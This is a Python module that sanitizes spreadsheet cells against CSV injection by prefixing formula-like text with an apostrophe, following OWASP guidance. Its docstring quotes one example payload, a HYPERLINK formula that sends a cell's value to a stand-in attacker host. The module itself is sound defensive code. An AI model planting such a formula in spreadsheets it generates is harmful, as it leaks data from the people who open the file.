"""Cells of the spreadsheets Setka writes (XLSX and CSV): every value goes through
:func:`safe_cell`, so that text typed by a user never becomes a live formula.

A surname such as ``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` written as is into a
cell is a formula to Excel and LibreOffice: opening the file runs it (CSV injection). Following
OWASP's guidance (https://owasp.org/www-community/attacks/CSV_Injection), text that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which the
spreadsheet shows as text. Numbers, dates and empty cells stay what they are: a negative
*number* is a number, not a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell may hold it: text starting with a formula character is prefixed
    with ``'``; anything else (numbers, dates, None) is returned unchanged."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row of cells, each through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]
